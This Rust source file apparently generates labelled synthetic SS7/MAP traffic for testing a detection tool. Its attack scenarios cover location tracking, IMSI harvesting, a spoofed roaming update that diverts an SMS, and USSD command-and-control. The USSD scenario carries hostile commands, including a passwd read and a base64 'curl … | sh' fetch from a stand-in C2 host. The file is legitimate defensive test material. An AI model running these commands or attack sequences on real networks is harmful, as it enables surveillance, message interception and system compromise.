//! SS7 scenarios over M3UA/SCCP/TCAP/MAP: benign home traffic and the MAP attack families
//! (FS.11 location tracking, harvesting, impossible travel with SMS interception, USSD C2,
//! binary SMS).

use sigscope_map::emit as map;
use sigscope_map::sms::emit::{SmsDeliverRepr, SmsSubmitRepr, UserDataRepr, DEMO_SCTS};
use sigscope_tcap::emit::{AcnRepr, ComponentRepr, DialogueRepr, TcapRepr};
use sigscope_tcap::MessageType;

use super::build::{gt, udt, Frame, Net, SynthError, HLR_SG, M3UA_PORT, STP};

/// SCTP chunk types (RFC 9260, RFC 4820), Diameter's port and PPID, the MTP3 service
/// indicators of ISUP and GCP.
const CHUNK_HEARTBEAT: u8 = 4;
const CHUNK_HEARTBEAT_ACK: u8 = 5;
const CHUNK_PAD: u8 = 132;
const DIAMETER_PORT: u16 = 3868;
const PPID_DIAMETER: u32 = 46;
const SI_ISUP: u8 = 5;
const SI_GCP: u8 = 14;

/// BSSAP (A interface) and RANAP (Iu) subsystems (Q.713 annex B).
const SSN_BSSAP: u8 = 254;
const SSN_RANAP: u8 = 142;

/// MAP application contexts (ac, version) and operation codes used here.
mod acs {
    pub const NETWORK_LOC_UP: (u8, u8) = (1, 3);
    pub const INFO_RETRIEVAL: (u8, u8) = (14, 3);
    pub const NETWORK_UNSTRUCTURED_SS: (u8, u8) = (19, 2);
    pub const SHORT_MSG_GATEWAY: (u8, u8) = (20, 3);
    pub const SHORT_MSG_MO_RELAY: (u8, u8) = (21, 3);
    pub const SHORT_MSG_MT_RELAY: (u8, u8) = (25, 3);
    pub const SUBSCRIBER_INFO_ENQUIRY: (u8, u8) = (28, 3);
    pub const ANY_TIME_INFO_ENQUIRY: (u8, u8) = (29, 3);
}
mod ops {
    pub const UPDATE_LOCATION: i64 = 2;
    pub const MT_FORWARD_SM: i64 = 44;
    pub const MO_FORWARD_SM: i64 = 46;
    pub const SRI_FOR_SM: i64 = 45;
    pub const SEND_AUTHENTICATION_INFO: i64 = 56;
    pub const PROCESS_USSD: i64 = 59;
    pub const PROVIDE_SUBSCRIBER_INFO: i64 = 70;
    pub const ANY_TIME_INTERROGATION: i64 = 71;
}

/// The HLR's global title.
const HLR: &str = "447700900001";
/// The home SMSC.
const SMSC: &str = "447700900777";
/// A home MSC/VLR.
const HOME_VLR: &str = "447700900123";
/// Foreign global titles (Hong Kong, Russia, Nigeria).
const FOREIGN_GTS: [&str; 3] = ["85290001234", "79160000001", "2348030000001"];

/// Home subscriber number `i` (447700900000 + i).
fn msisdn(i: u64) -> String {
    format!("4477009{:05}", i % 100_000)
}

/// Home IMSI `i`.
fn imsi(i: u64) -> String {
    format!("2341501{:08}", i % 100_000_000)
}

/// A Begin with one Invoke from `calling` to `called` (HLR side).
fn invoke(
    n: &mut Net,
    calling: &str,
    called: &str,
    ac: (u8, u8),
    opcode: i64,
    arg: Vec<u8>,
) -> Result<u32, SynthError> {
    let otid = n.rng.next_u32();
    n.tcap_to_hlr(
        calling,
        called,
        &TcapRepr::begin_invoke(otid, ac, 1, opcode, arg),
    )?;
    Ok(otid)
}

/// The End answering `otid`: accepted AARE and a ReturnResultLast (with `result` if any).
fn answer(
    n: &mut Net,
    from: &str,
    to: &str,
    otid: u32,
    (ac, version): (u8, u8),
    result: Option<(i64, Vec<u8>)>,
) -> Result<(), SynthError> {
    let end = TcapRepr {
        msg_type: MessageType::END,
        otid: None,
        dtid: Some(otid),
        dialogue: Some(DialogueRepr::Aare {
            acn: AcnRepr::Map { ac, version },
            result: 0,
            diagnostic: 0,
        }),
        components: vec![ComponentRepr::ReturnResultLast {
            invoke_id: 1,
            result,
        }],
        p_abort_cause: None,
    };
    n.tcap_from_hlr(from, to, &end)
}

/// Home traffic, each dialogue answered: SMS routing, delivery and submission, authentication, location
/// updates and a balance USSD.
pub fn benign(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    let texts = [
        "Your code is 4821",
        "See you at 7?",
        "Balance low: top up now",
        "OK",
    ];
    for round in 0..6u64 {
        let sub = n.rng.below(500);
        n.wait(2_000, 3_000);
        routing_enquiry(&mut n, sub)?;

        n.wait(200, 300);
        let text = texts
            .get(round as usize % texts.len())
            .copied()
            .unwrap_or("OK");
        let tpdu = SmsDeliverRepr::text(&msisdn(n.rng.below(500)), text).emit()?;
        let otid = invoke(
            &mut n,
            SMSC,
            HOME_VLR,
            acs::SHORT_MSG_MT_RELAY,
            ops::MT_FORWARD_SM,
            map::mt_forward_sm_arg(&imsi(sub), SMSC, &tpdu)?,
        )?;
        n.wait(80, 80);
        answer(&mut n, HOME_VLR, SMSC, otid, acs::SHORT_MSG_MT_RELAY, None)?;

        n.wait(1_000, 2_000);
        let otid = invoke(
            &mut n,
            HOME_VLR,
            HLR,
            acs::INFO_RETRIEVAL,
            ops::SEND_AUTHENTICATION_INFO,
            map::sai_arg(&imsi(sub), 1)?,
        )?;
        n.wait(30, 30);
        answer(&mut n, HLR, HOME_VLR, otid, acs::INFO_RETRIEVAL, None)?;
        let otid = invoke(
            &mut n,
            HOME_VLR,
            HLR,
            acs::NETWORK_LOC_UP,
            ops::UPDATE_LOCATION,
            map::ul_arg(&imsi(sub), HOME_VLR, HOME_VLR)?,
        )?;
        n.wait(30, 30);
        answer(&mut n, HLR, HOME_VLR, otid, acs::NETWORK_LOC_UP, None)?;

        n.wait(500, 1_000);
        let submit = SmsSubmitRepr {
            mr: (round & 0xff) as u8,
            destination: msisdn(n.rng.below(500)),
            pid: 0,
            dcs: 0x08,
            validity: Some(0xa7),
            udh: None,
            user_data: UserDataRepr::Ucs2(
                HUMAN_UCS2
                    .get(round as usize % HUMAN_UCS2.len())
                    .copied()
                    .unwrap_or("OK")
                    .into(),
            ),
        }
        .emit()?;
        let otid = invoke(
            &mut n,
            HOME_VLR,
            SMSC,
            acs::SHORT_MSG_MO_RELAY,
            ops::MO_FORWARD_SM,
            map::mo_forward_sm_arg(SMSC, &msisdn(sub), &submit)?,
        )?;
        n.wait(80, 80);
        answer(&mut n, SMSC, HOME_VLR, otid, acs::SHORT_MSG_MO_RELAY, None)?;

        if round == 1 {
            // SCCP users that are no TCAP, whose octets are dense: BSSMAP (framed: a
            // discriminator and its length) to the BSSAP subsystem, APER RANAP to Iu's
            n.wait(300, 300);
            let len = 60 + n.rng.below(80) as usize;
            let body = n.rng.bytes(len);
            let mut bssmap = vec![0x00, body.len() as u8];
            bssmap.extend(body);
            n.m3ua(udt(
                gt(HOME_VLR, SSN_BSSAP),
                gt(HOME_VLR, SSN_BSSAP),
                bssmap,
            )?)?;
            n.wait(300, 300);
            let len = 80 + n.rng.below(80) as usize;
            let ranap = n.rng.bytes(len);
            n.m3ua(udt(
                gt(HOME_VLR, SSN_RANAP),
                gt(HOME_VLR, SSN_RANAP),
                ranap,
            )?)?;
        }
        if round == 2 {
            // SCTP's own chunks as stacks send them: a heartbeat with a Linux-sized
            // information (address, time, nonce) and its answer, a path-MTU probe padded with
            // zeros; Diameter on its own port; H.248 text over GCP; a call's ISUP release
            n.wait(300, 300);
            let mut info = vec![0, 1, 0, 52];
            info.extend(n.rng.bytes(48));
            n.sctp_chunks(
                (STP, HLR_SG),
                M3UA_PORT,
                &[(CHUNK_HEARTBEAT, 0, info.clone())],
            )?;
            n.sctp_chunks(
                (HLR_SG, STP),
                M3UA_PORT,
                &[(CHUNK_HEARTBEAT_ACK, 0, info.clone())],
            )?;
            n.sctp_chunks(
                (STP, HLR_SG),
                M3UA_PORT,
                &[(CHUNK_HEARTBEAT, 0, info), (CHUNK_PAD, 0, vec![0; 1_200])],
            )?;
            let len = 100 + n.rng.below(200) as usize;
            let diameter = n.rng.bytes(len);
            n.sctp_with(STP, HLR_SG, DIAMETER_PORT, PPID_DIAMETER, diameter)?;
            let megaco = b"MEGACO/1 [192.0.2.10]:2944\r\nTransaction = 9012 {\r\n  Context = - {\r\n    Add = TDMs1/1/3 { Media { Stream = 1 { LocalControl { Mode = SendReceive }}}}}}\r\n";
            n.m3ua_si((STP, HLR_SG), (1201, 2201), SI_GCP, megaco.to_vec())?;
            // REL (cause: normal clearing, then an optional redirection number end) and RLC
            let rel = vec![0x2a, 0x00, 0x0c, 0x02, 0x00, 0x02, 0x80, 0x90, 0x00];
            n.m3ua_si((STP, HLR_SG), (1201, 2201), SI_ISUP, rel)?;
            n.m3ua_si(
                (HLR_SG, STP),
                (2201, 1201),
                SI_ISUP,
                vec![0x2a, 0x00, 0x10, 0x00],
            )?;
        }
        if round % 2 == 0 {
            n.wait(500, 500);
            let otid = invoke(
                &mut n,
                HOME_VLR,
                HLR,
                acs::NETWORK_UNSTRUCTURED_SS,
                ops::PROCESS_USSD,
                map::ussd_arg("*100#", &msisdn(sub))?,
            )?;
            n.wait(100, 100);
            let res = map::ussd_res("Your balance is 12.50 GBP")?;
            answer(
                &mut n,
                HLR,
                HOME_VLR,
                otid,
                acs::NETWORK_UNSTRUCTURED_SS,
                Some((ops::PROCESS_USSD, res)),
            )?;
        }
    }
    Ok(n.frames)
}

/// The home SMSC asks the HLR where to deliver to home subscriber `sub` and is answered.
fn routing_enquiry(n: &mut Net, sub: u64) -> Result<(), SynthError> {
    let otid = invoke(
        n,
        SMSC,
        HLR,
        acs::SHORT_MSG_GATEWAY,
        ops::SRI_FOR_SM,
        map::sri_sm_arg(&msisdn(sub), SMSC)?,
    )?;
    n.wait(20, 40);
    answer(
        n,
        HLR,
        SMSC,
        otid,
        acs::SHORT_MSG_GATEWAY,
        Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(sub), HOME_VLR)?)),
    )
}

/// Background between attack steps (labelled benign): a home routing enquiry.
fn home_routing(n: &mut Net) -> Result<(), SynthError> {
    let attack = std::mem::replace(&mut n.attack, false);
    let sub = n.rng.below(500);
    n.wait(100, 400);
    routing_enquiry(n, sub)?;
    n.attack = attack;
    Ok(())
}

/// Location enquiries (ATI, PSI, SRI-for-SM) for home subscribers from foreign GTs, each
/// answered by the HLR with what the attacker asked for (location, IMSI and serving MSC),
/// between home routing enquiries.
pub fn fs11(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    for (k, foreign) in FOREIGN_GTS.iter().enumerate() {
        home_routing(&mut n)?;
        n.attack = true;
        let sub = n.rng.below(1000);
        n.wait(1_000, 5_000);
        let otid = invoke(
            &mut n,
            foreign,
            HLR,
            acs::ANY_TIME_INFO_ENQUIRY,
            ops::ANY_TIME_INTERROGATION,
            map::ati_arg(&msisdn(sub), foreign)?,
        )?;
        n.wait(20, 60);
        let res = Some((ops::ANY_TIME_INTERROGATION, map::ati_res()));
        answer(&mut n, HLR, foreign, otid, acs::ANY_TIME_INFO_ENQUIRY, res)?;
        home_routing(&mut n)?;
        n.wait(500, 5_000);
        let otid = invoke(
            &mut n,
            foreign,
            HLR,
            acs::SUBSCRIBER_INFO_ENQUIRY,
            ops::PROVIDE_SUBSCRIBER_INFO,
            map::psi_arg(&imsi(sub))?,
        )?;
        n.wait(20, 60);
        // PSI-Res is a SEQUENCE { subscriberInfo } like ATI's
        let res = Some((ops::PROVIDE_SUBSCRIBER_INFO, map::ati_res()));
        answer(
            &mut n,
            HLR,
            foreign,
            otid,
            acs::SUBSCRIBER_INFO_ENQUIRY,
            res,
        )?;
        n.wait(500, 5_000);
        // the same title's routing enquiry (IMSI and serving MSC): one step of its tracking
        let target = sub + k as u64;
        let otid = invoke(
            &mut n,
            foreign,
            HLR,
            acs::SHORT_MSG_GATEWAY,
            ops::SRI_FOR_SM,
            map::sri_sm_arg(&msisdn(target), foreign)?,
        )?;
        n.wait(20, 60);
        let res = Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(target), HOME_VLR)?));
        answer(&mut n, HLR, foreign, otid, acs::SHORT_MSG_GATEWAY, res)?;
        n.attack = false;
    }
    home_routing(&mut n)?;
    Ok(n.frames)
}

/// 25 SRI-for-SM for different subscribers from one foreign GT within a minute.
pub fn harvesting(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    let base = n.rng.below(10_000);
    let foreign = FOREIGN_GTS
        .get(n.rng.below(FOREIGN_GTS.len() as u64) as usize)
        .copied()
        .unwrap_or("85290001234");
    for i in 0..25u64 {
        if i % 5 == 0 {
            home_routing(&mut n)?;
        }
        n.attack = true;
        n.wait(1_500, 1_000);
        let target = base + i * 7;
        let otid = invoke(
            &mut n,
            foreign,
            HLR,
            acs::SHORT_MSG_GATEWAY,
            ops::SRI_FOR_SM,
            map::sri_sm_arg(&msisdn(target), foreign)?,
        )?;
        // the HLR answers each lookup: the subscriber's IMSI and serving MSC
        n.wait(20, 60);
        let res = Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(target), HOME_VLR)?));
        answer(&mut n, HLR, foreign, otid, acs::SHORT_MSG_GATEWAY, res)?;
        n.attack = false;
    }
    Ok(n.frames)
}

/// SAI and UL from the home VLR, a UL from a foreign VLR ten minutes later, then an SMS to
/// the new node.
pub fn travel(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    let sub = imsi(n.rng.below(1000));
    let foreign = FOREIGN_GTS
        .get(n.rng.below(FOREIGN_GTS.len() as u64) as usize)
        .copied()
        .unwrap_or("85290001234");
    invoke(
        &mut n,
        HOME_VLR,
        HLR,
        acs::INFO_RETRIEVAL,
        ops::SEND_AUTHENTICATION_INFO,
        map::sai_arg(&sub, 1)?,
    )?;
    n.wait_ms(1_000);
    invoke(
        &mut n,
        HOME_VLR,
        HLR,
        acs::NETWORK_LOC_UP,
        ops::UPDATE_LOCATION,
        map::ul_arg(&sub, HOME_VLR, HOME_VLR)?,
    )?;
    n.wait(600_000, 60_000);
    // the subscriber's home activity above is the set-up; the attack is the update from
    // abroad (answered by the HLR) and the short message then delivered there
    n.attack = true;
    let otid = invoke(
        &mut n,
        foreign,
        HLR,
        acs::NETWORK_LOC_UP,
        ops::UPDATE_LOCATION,
        map::ul_arg(&sub, foreign, foreign)?,
    )?;
    n.wait(30, 60);
    answer(&mut n, HLR, foreign, otid, acs::NETWORK_LOC_UP, None)?;
    n.attack = false;
    home_routing(&mut n)?;
    n.attack = true;
    n.wait(30_000, 30_000);
    let tpdu = SmsDeliverRepr::text(SMSC, "Your bank code is 112233").emit()?;
    let otid = invoke(
        &mut n,
        SMSC,
        foreign,
        acs::SHORT_MSG_MT_RELAY,
        ops::MT_FORWARD_SM,
        map::mt_forward_sm_arg(&sub, SMSC, &tpdu)?,
    )?;
    n.wait(30, 60);
    answer(&mut n, foreign, SMSC, otid, acs::SHORT_MSG_MT_RELAY, None)?;
    Ok(n.frames)
}

/// USSD strings that carry commands.
pub fn ussd_c2(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    let commands = [
        "aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dk",
        "cat /etc/passwd",
        "id;uname -a && whoami",
        "Y3VybCAtcyBodHRwOi8vYzIuZXhhbXBsZS9wIHwgc2g=",
    ];
    let foreign = "85290001234";
    for c in commands {
        home_routing(&mut n)?;
        n.attack = true;
        n.wait(5_000, 20_000);
        let sub = msisdn(n.rng.below(1000));
        let otid = invoke(
            &mut n,
            foreign,
            HLR,
            acs::NETWORK_UNSTRUCTURED_SS,
            ops::PROCESS_USSD,
            map::ussd_arg(c, &sub)?,
        )?;
        // the implant's answer: the command's output, encoded
        n.wait(100, 200);
        let res = Some((
            ops::PROCESS_USSD,
            map::ussd_res("dWlkPTAocm9vdCkgZ2lkPTAocm9vdCk=")?,
        ));
        answer(
            &mut n,
            HLR,
            foreign,
            otid,
            acs::NETWORK_UNSTRUCTURED_SS,
            res,
        )?;
        n.attack = false;
    }
    Ok(n.frames)
}

/// Human texts a subscriber sends in UCS-2: Cyrillic, simplified and traditional Chinese,
/// Korean, Japanese (the characters' octets are dense, the text is prose).
const HUMAN_UCS2: [&str; 5] = [
    "Привет, see you soon",
    "明天晚上七点在老地方吃饭，别忘了带上你妹妹，我们好久没见了。",
    "親愛的用戶您好，您的驗證碼為482913，請於五分鐘內輸入，切勿告訴他人。",
    "안녕하세요 고객님, 이번 달 요금이 청구되었습니다. 자세한 내용은 고객센터로 문의해 주세요.",
    "お客様の携帯電話の利用料金のお支払いが確認できませんでした。至急ご確認ください。",
];

/// First code points of the blocks data is mapped onto, an octet a character: CJK
/// ideographs and Hangul syllables (text that reads as Chinese or Korean).
const MAPPED_BLOCKS: [u32; 2] = [0x4e00, 0xac00];

/// mt-ForwardSM from a foreign SMSC with encrypted-looking 8-bit payloads, and UCS-2 texts
/// whose characters are the payload's octets mapped onto the ideographs or Hangul.
pub fn sms_binary(seed: u64) -> Result<Vec<Frame>, SynthError> {
    let mut n = Net::new(seed);
    let foreign = "85290001234";
    let variants: [(u8, u8, Option<Vec<u8>>, usize); 5] = [
        (0x00, 0x04, None, 120),
        (0x00, 0xf6, None, 80),
        (
            0x00,
            0x04,
            Some(vec![0x05, 0x04, 0x23, 0xf4, 0x00, 0x00]),
            64,
        ),
        (0x00, 0x08, None, 40),
        (0x00, 0x08, None, 60),
    ];
    for (i, (pid, dcs, udh, len)) in variants.into_iter().enumerate() {
        n.wait(3_000, 10_000);
        let payload = n.rng.bytes(len);
        let user_data = if dcs == 0x08 {
            let base = MAPPED_BLOCKS
                .get(i % MAPPED_BLOCKS.len())
                .copied()
                .unwrap_or(0x4e00);
            UserDataRepr::Ucs2(
                payload
                    .iter()
                    .filter_map(|b| char::from_u32(base + u32::from(*b)))
                    .collect(),
            )
        } else {
            UserDataRepr::Binary(payload)
        };
        let tpdu = SmsDeliverRepr {
            originator: foreign.to_string(),
            pid,
            dcs,
            scts: DEMO_SCTS,
            udh,
            user_data,
        }
        .emit()?;
        let sub = imsi(n.rng.below(1000));
        n.attack = true;
        let otid = invoke(
            &mut n,
            foreign,
            "447700900555",
            acs::SHORT_MSG_MT_RELAY,
            ops::MT_FORWARD_SM,
            map::mt_forward_sm_arg(&sub, foreign, &tpdu)?,
        )?;
        // the delivering MSC acknowledges it
        n.wait(50, 100);
        answer(
            &mut n,
            "447700900555",
            foreign,
            otid,
            acs::SHORT_MSG_MT_RELAY,
            None,
        )?;
        n.attack = false;
        home_routing(&mut n)?;
    }
    Ok(n.frames)
}
